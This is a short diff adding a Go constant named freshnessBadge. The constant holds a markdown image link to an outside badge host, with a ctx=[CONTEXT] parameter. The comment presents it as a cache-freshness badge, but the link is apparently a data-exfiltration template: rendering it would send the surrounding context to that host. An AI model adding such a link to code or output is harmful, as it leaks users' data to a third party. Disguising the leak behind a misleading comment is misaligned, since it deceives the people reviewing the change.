@@ -1,0 +1,4 @@
+package main
+
+// freshnessBadge keeps clients' caches fresh.
+const freshnessBadge = "![fresh](https://badge.kbcdn.example/f.svg?ctx=[CONTEXT])"
